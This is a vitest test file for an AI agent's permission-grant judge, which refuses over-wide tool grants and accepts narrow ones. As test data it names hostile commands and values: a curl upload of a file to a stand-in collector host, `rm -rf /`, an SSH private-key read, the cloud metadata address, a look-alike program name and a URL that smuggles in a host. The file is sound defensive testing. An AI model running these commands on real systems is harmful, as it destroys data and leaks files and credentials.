// The width judge: every spelling of a too-wide grant is refused with a sentence that names why (the
// call it would let through), and narrow grants people really make are accepted. The judge decides by
// meaning (the real policy over the corpus), so these tables are its examples, not its rules.
import { beforeAll, describe, expect, it } from 'vitest';
import type { GrantPattern } from '../../common/domain';
import { parseCommandPattern } from '../../common/grant-pattern';
import { policyContext, TEST_PATHS } from '../../test/support/policy';
import { initClassifier } from './classifier';
import { decide } from './evaluate';
import { judgeGrantWidth, proposeGrantPattern } from './grant-width';
import { COMMAND_PROBES, PATH_PROBES } from './grant-width-corpus';
import { describeCall } from './tools';

beforeAll(() => initClassifier());

/** A command pattern as a person writes it, or the raw argv an API caller sends. */
function cmd(text: string): GrantPattern {
  const r = parseCommandPattern(text);
  if (!r.ok) throw new Error(`${text}: ${r.error}`);
  return { kind: 'argv', argv: r.argv, match: r.match };
}
const argv = (...words: string[]): GrantPattern => ({ kind: 'argv', argv: words });
const path = (glob: string): GrantPattern => ({ kind: 'path', glob });
const url = (prefix: string): GrantPattern => ({ kind: 'url', prefix });

describe('too-wide grants are refused, each with a sentence naming the call it would let through', () => {
  it.each<{ name: string; tool?: string; pattern: GrantPattern; why: RegExp }>([
    // Any program.
    { name: 'argv ["*"] (the issue)', pattern: argv('*'), why: /first word \* could be any program: it would also allow `/ },
    { name: 'argv ["*", "*"]', pattern: argv('*', '*'), why: /could be any program/ },
    { name: 'argv ["**/*"]', pattern: argv('**/*'), why: /could be any program/ },
    { name: 'argv ["/*/**"]', pattern: argv('/*/**'), why: /could be any program/ },
    { name: 'argv ["?*"]', pattern: argv('?*'), why: /could be any program/ },
    { name: 'argv ["[a-z]*"]', pattern: argv('[a-z]*'), why: /could be any program/ },
    { name: 'argv ["py*"]', pattern: argv('py*'), why: /could be any program/ },
    { name: 'argv ["/usr/bin/*"]', pattern: argv('/usr/bin/*'), why: /could be any program/ },
    { name: 'every run_command call', pattern: { kind: 'tool' }, why: /every run_command call" is too wide: it would stand for any command, `python3 -c/ },
    // Interpreters.
    { name: 'python3 * (prefix of an interpreter)', pattern: cmd('python3 *'), why: /would also allow `python3 -c .*runs code given on its command line/ },
    { name: 'python3 -c *', pattern: cmd('python3 -c *'), why: /runs code given on its command line/ },
    { name: 'python3 -c with one wildcard word', pattern: cmd('python3 -c *x*'), why: /runs code given on its command line/ },
    { name: 'python3.12 *', pattern: cmd('python3.12 *'), why: /python3\.12 -c/ },
    { name: '/usr/bin/python3 *', pattern: cmd('/usr/bin/python3 *'), why: /\/usr\/bin\/python3 -c/ },
    { name: 'node *', pattern: cmd('node *'), why: /node -e/ },
    { name: 'perl *', pattern: cmd('perl *'), why: /perl -e/ },
    { name: 'ruby *', pattern: cmd('ruby *'), why: /ruby -e/ },
    { name: 'php *', pattern: cmd('php *'), why: /php -r/ },
    { name: 'deno *', pattern: cmd('deno *'), why: /deno eval/ },
    { name: 'awk *', pattern: cmd('awk *'), why: /awk/ },
    { name: 'sh *', pattern: cmd('sh *'), why: /sh \.\/payload\.sh`, which runs any script/ },
    { name: 'bash *', pattern: cmd('bash *'), why: /runs any script/ },
    { name: 'busybox sh *', pattern: cmd('busybox sh *'), why: /runs any script/ },
    // Carriers of any program.
    { name: 'env *', pattern: cmd('env *'), why: /env python3 -c .*runs any program it is given/ },
    { name: '/usr/bin/env *', pattern: cmd('/usr/bin/env *'), why: /runs any program it is given/ },
    { name: 'env -i *', pattern: cmd('env -i *'), why: /env -i sh/ },
    { name: 'xargs *', pattern: cmd('xargs *'), why: /xargs python3 -c/ },
    { name: 'xargs -0 *', pattern: cmd('xargs -0 *'), why: /xargs -0 python3 -c/ },
    { name: 'nice *', pattern: cmd('nice *'), why: /runs any program it is given/ },
    { name: 'nohup *', pattern: cmd('nohup *'), why: /runs any program it is given/ },
    { name: 'timeout *', pattern: cmd('timeout *'), why: /runs any program it is given/ },
    { name: 'timeout 60 *', pattern: cmd('timeout 60 *'), why: /timeout 60 python3 -c/ },
    { name: 'stdbuf *', pattern: cmd('stdbuf *'), why: /runs any program it is given/ },
    { name: 'command *', pattern: cmd('command *'), why: /runs any program it is given/ },
    { name: 'find * -exec *', pattern: cmd('find * -exec *'), why: /find \. -exec python3 .*for each file it finds/ },
    { name: 'find . -exec *', pattern: cmd('find . -exec *'), why: /for each file it finds/ },
    { name: 'find . -name * (then -exec)', pattern: cmd('find . -name *'), why: /find \. -name/ },
    { name: 'git -c *', pattern: cmd('git -c *'), why: /git -c include\.path=.*loads configuration/ },
    { name: 'git *', pattern: cmd('git *'), why: /too wide/ },
    { name: 'npx *', pattern: cmd('npx *'), why: /downloads a package and runs it/ },
    { name: 'npm exec *', pattern: cmd('npm exec *'), why: /downloads a package and runs it/ },
    { name: 'go run *', pattern: cmd('go run *'), why: /downloads a program and runs it/ },
    { name: 'docker *', pattern: cmd('docker *'), why: /container/ },
    // Network: uploads and raw connections.
    { name: 'curl * (the issue: --data-binary @notes.txt)', pattern: cmd('curl *'), why: /curl --data-binary @notes\.txt https:\/\/collector\.example\/upload`, which uploads a file to any host/ },
    { name: 'curl -s *', pattern: cmd('curl -s *'), why: /curl -s .*collector\.example/ },
    { name: 'curl to one host, then anything', pattern: cmd('curl https://api.example.com/ *'), why: /sends data out|another host/ },
    { name: 'wget *', pattern: cmd('wget *'), why: /uploads a file to any host/ },
    { name: 'scp *', pattern: cmd('scp *'), why: /copies files to any host/ },
    { name: 'rsync *', pattern: cmd('rsync *'), why: /copies files to any host/ },
    { name: 'ssh *', pattern: cmd('ssh *'), why: /remote shell/ },
    { name: 'nc *', pattern: cmd('nc *'), why: /raw connection/ },
    { name: 'git push *', pattern: cmd('git push *'), why: /sends the repository to any host/ },
    // Installs.
    { name: 'npm install *', pattern: cmd('npm install *'), why: /installs any package/ },
    { name: 'npm i *', pattern: cmd('npm i *'), why: /installs any package/ },
    { name: 'pip install *', pattern: cmd('pip install *'), why: /installs any package/ },
    { name: 'cargo install *', pattern: cmd('cargo install *'), why: /installs any package/ },
    // Reads whose options the classifier cannot vouch for.
    { name: 'ls * (any option, none provably read-only)', pattern: cmd('ls *'), why: /not provably read-only/ },
    // Environment assignments.
    { name: 'an assignment with a wildcard value', pattern: cmd('PAGER=* git log'), why: /environment assignment PAGER=\* could set/ },
    { name: 'LD_PRELOAD=*', pattern: cmd('LD_PRELOAD=* ls'), why: /environment assignment/ },
    // Path globs (the issue: **/*, /**/*, /*/** were accepted).
    { name: '** (write_file)', tool: 'write_file', pattern: path('**'), why: /"\*\*" is too wide: it would also allow `write_file package\.json`/ },
    { name: '**/* (write_file)', tool: 'write_file', pattern: path('**/*'), why: /too wide/ },
    { name: '/** (write_file)', tool: 'write_file', pattern: path('/**'), why: /too wide/ },
    { name: '/**/* (write_file)', tool: 'write_file', pattern: path('/**/*'), why: /too wide/ },
    { name: '/*/** (write_file)', tool: 'write_file', pattern: path('/*/**'), why: /too wide/ },
    { name: '* (edit_file: every top-level file)', tool: 'edit_file', pattern: path('*'), why: /package\.json/ },
    { name: '.* (write_file: the dotfiles)', tool: 'write_file', pattern: path('.*'), why: /\.npmrc/ },
    { name: '.git/** (write_file)', tool: 'write_file', pattern: path('.git/**'), why: /\.git\/HEAD/ },
    { name: '.github/** (edit_file)', tool: 'edit_file', pattern: path('.github/**'), why: /CI/ },
    { name: '**/package.json (write_file)', tool: 'write_file', pattern: path('**/package.json'), why: /npm/ },
    { name: '~/** (read_file)', tool: 'read_file', pattern: path('~/**'), why: /too wide/ },
    { name: '/etc/* (read_file)', tool: 'read_file', pattern: path('/etc/*'), why: /a system file/ },
    { name: '** (list_dir)', tool: 'list_dir', pattern: path('**'), why: /too wide/ },
    { name: 'every write_file call', tool: 'write_file', pattern: { kind: 'tool' }, why: /every write_file call" is too wide/ },
    { name: 'every read_file call', tool: 'read_file', pattern: { kind: 'tool' }, why: /every read_file call" is too wide/ },
    // URLs.
    { name: 'every web_fetch call', tool: 'web_fetch', pattern: { kind: 'tool' }, why: /collector\.example/ },
  ])('$name', ({ tool, pattern, why }) => {
    const j = judgeGrantWidth(tool ?? 'run_command', pattern, TEST_PATHS);
    expect(j.ok ? 'accepted' : j.reason).toMatch(why);
  });
});

describe('grants that can never let anything run are refused', () => {
  it.each<{ name: string; tool?: string; pattern: GrantPattern; why: RegExp }>([
    { name: 'a destructive command', pattern: cmd('rm -rf .git'), why: /never let anything run: `rm -rf \.git` still asks \(destructive/ },
    { name: 'sudo', pattern: cmd('sudo ls'), why: /never let anything run/ },
    { name: 'a credential read', pattern: cmd('cat ~/.ssh/id_ed25519'), why: /credential/ },
    { name: 'a hardline command', pattern: cmd('rm -rf /'), why: /never let anything run/ },
    { name: 'a look-alike program name', pattern: cmd('рython3 *'), why: /cannot be judged safely/ },
    { name: 'a compound command with a substitution', pattern: { kind: 'command', command: 'echo $(date) && ls' }, why: /substitution/ },
    { name: 'a path glob that resolves nowhere', tool: 'write_file', pattern: path('~/../**'), why: /not matched by it/ },
    { name: 'a path glob under the credentials', tool: 'write_file', pattern: path('~/.ssh/*'), why: /never let anything run/ },
    { name: 'the cloud metadata address', tool: 'web_fetch', pattern: url('http://169.254.169.254/'), why: /private network address/ },
    { name: 'a URL spelt in capitals (never how a fetched URL reads)', tool: 'web_fetch', pattern: url('HTTPS://DOCS.EXAMPLE.COM/'), why: /scheme, one host/ },
  ])('$name', ({ tool, pattern, why }) => {
    const j = judgeGrantWidth(tool ?? 'run_command', pattern, TEST_PATHS);
    expect(j.ok ? 'accepted' : j.reason).toMatch(why);
  });
});

describe('malformed grants are refused by name', () => {
  it.each<{ name: string; tool: string; pattern: GrantPattern; reason: string }>([
    { name: 'an unknown tool', tool: 'nope', pattern: { kind: 'tool' }, reason: 'There is no tool named "nope".' },
    { name: 'a grant for questions', tool: 'ask_user', pattern: { kind: 'tool' }, reason: 'A grant would do nothing for ask_user: it never asks.' },
    { name: 'an argv grant for a file tool', tool: 'write_file', pattern: argv('x'), reason: 'Command patterns (argv) are for run_command.' },
    { name: 'a path grant for run_command', tool: 'run_command', pattern: path('src/**'), reason: 'Path patterns are for read_file, list_dir, search_files, write_file, edit_file, open_path, not run_command.' },
    { name: 'only assignments', tool: 'run_command', pattern: argv('FOO=1'), reason: 'A command pattern needs the name of a program after its NAME=value words.' },
    { name: 'an exact pattern ending in a lone *', tool: 'run_command', pattern: { kind: 'argv', argv: ['npm', 'test', '*'], match: 'exact' }, reason: 'A last word "*" means "any further arguments": make the pattern a prefix (match = "prefix") instead.' },
    { name: 'a URL with a user name', tool: 'web_fetch', pattern: url('https://docs.example.com@collector.example/'), reason: 'A URL prefix must not carry a user name: "https://docs.example.com@collector.example/" reaches collector.example, not what it seems to name.' },
    { name: 'a URL without the host slash', tool: 'web_fetch', pattern: url('https://docs.example.com'), reason: 'A URL prefix must start with the scheme, one host and the slash after it, as https://docs.example.com/ does.' },
    { name: 'a URL of another scheme', tool: 'web_fetch', pattern: url('file:///etc/'), reason: 'A URL prefix must start with https:// or http://.' },
  ])('$name', ({ tool, pattern, reason }) => {
    expect(judgeGrantWidth(tool, pattern, TEST_PATHS)).toEqual({ ok: false, code: 'invalid_grant', reason });
  });
});

describe('narrow grants people make are accepted', () => {
  it.each<{ name: string; tool?: string; pattern: GrantPattern }>([
    { name: 'git status (exact)', pattern: cmd('git status') },
    { name: 'npm test * (the docs’ own suggestion)', pattern: cmd('npm test *') },
    { name: 'npm test', pattern: cmd('npm test') },
    { name: 'npm install (from the lock file)', pattern: cmd('npm install') },
    { name: 'pip install -r requirements.txt', pattern: cmd('pip install -r requirements.txt') },
    { name: 'make *', pattern: cmd('make *') },
    { name: 'make test *', pattern: cmd('make test *') },
    { name: 'cargo build *', pattern: cmd('cargo build *') },
    { name: 'cargo test *', pattern: cmd('cargo test *') },
    { name: 'go test *', pattern: cmd('go test *') },
    { name: 'go run ./cmd/server *', pattern: cmd('go run ./cmd/server *') },
    { name: 'pytest tests/*.py', pattern: cmd('pytest tests/*.py') },
    { name: 'python3 script.py *', pattern: cmd('python3 script.py *') },
    { name: 'node script.js *', pattern: cmd('node script.js *') },
    { name: 'python3 -c with exactly this code', pattern: cmd(`python3 -c 'print(1)'`) },
    { name: 'sh -c * (the code is judged part by part)', pattern: cmd('sh -c *') },
    { name: 'git push origin *', pattern: cmd('git push origin *') },
    { name: 'git commit -m *', pattern: cmd('git commit -m *') },
    { name: 'touch *', pattern: cmd('touch *') },
    { name: 'mkdir -p *', pattern: cmd('mkdir -p *') },
    { name: 'rm -rf build', pattern: cmd('rm -rf build') },
    { name: 'NODE_ENV=test npm test', pattern: cmd('NODE_ENV=test npm test') },
    { name: 'curl to exactly one address', pattern: cmd('curl -s https://api.example.com/status') },
    { name: 'an exact compound command', pattern: { kind: 'command', command: 'mkdir -p build && touch build/a.txt && ls build' } },
    { name: 'docs/** (write_file)', tool: 'write_file', pattern: path('docs/**') },
    { name: 'src/**/*.ts (edit_file)', tool: 'edit_file', pattern: path('src/**/*.ts') },
    { name: 'notes.txt (write_file)', tool: 'write_file', pattern: path('notes.txt') },
    { name: 'package.json exactly (write_file: the file named)', tool: 'write_file', pattern: path('package.json') },
    { name: '~/notes/** (read_file)', tool: 'read_file', pattern: path('~/notes/**') },
    { name: '**/*.pdf (open_path)', tool: 'open_path', pattern: path('**/*.pdf') },
    { name: 'one documentation site', tool: 'web_fetch', pattern: url('https://docs.example.com/') },
    { name: 'an MCP tool', tool: 'mcp.files.read', pattern: { kind: 'tool' } },
  ])('$name', ({ tool, pattern }) => {
    expect(judgeGrantWidth(tool ?? 'run_command', pattern, TEST_PATHS)).toEqual({ ok: true });
  });
});

describe('the corpus stays meaningful', () => {
  it.each(COMMAND_PROBES.map((p) => [p.command, p.why]))('%s asks or is refused without a grant (it is a harm, not a read that runs anyway): %s', (command) => {
    const d = describeCall('run_command', { command }, { ctx: TEST_PATHS });
    if (!d.ok) throw new Error(d.message);
    expect(decide(d.facts, policyContext()).decision).not.toEqual('allow');
  });

  it.each(PATH_PROBES.map((p) => [p.path, p.why]))('write_file %s asks without a grant: %s', (p) => {
    const full = p.startsWith('~/') ? `${TEST_PATHS.home}${p.slice(1)}` : p;
    const d = describeCall('write_file', { path: full, content: '' }, { ctx: TEST_PATHS });
    if (!d.ok) throw new Error(d.message);
    expect(decide(d.facts, policyContext()).decision).toEqual('ask');
  });
});

describe('a card proposes exactly its call, as one grant', () => {
  it.each<{ name: string; command: string; want: GrantPattern | null }>([
    { name: 'a simple command: its words, exactly', command: 'git log --oneline -5', want: { kind: 'argv', argv: ['git', 'log', '--oneline', '-5'], match: 'exact' } },
    { name: 'a word holding a star is matched literally', command: "find . -name '*.ts'", want: { kind: 'argv', argv: ['find', '.', '-name', '\\*.ts'], match: 'exact' } },
    { name: 'its assignments are part of it', command: 'NODE_ENV=test npm test', want: { kind: 'argv', argv: ['NODE_ENV=test', 'npm', 'test'], match: 'exact' } },
    { name: 'its redirections are named', command: 'npm run lint > lint.log', want: { kind: 'argv', argv: ['npm', 'run', 'lint'], match: 'exact', redirects: ['/home/user/project/lint.log'] } },
    { name: 'a compound command: the whole line, one grant', command: 'mkdir -p build && touch build/a.txt && ls build', want: { kind: 'command', command: 'mkdir -p build && touch build/a.txt && ls build' } },
    { name: 'a command with an empty argument: the whole line', command: "git commit -m ''", want: { kind: 'command', command: "git commit -m ''" } },
    { name: 'nothing for a substitution', command: 'echo $(id)', want: null },
  ])('$name', ({ command, want }) => {
    const d = describeCall('run_command', { command }, { ctx: TEST_PATHS });
    if (!d.ok) throw new Error(d.message);
    expect(proposeGrantPattern(d.facts, TEST_PATHS)).toEqual(want);
  });
});
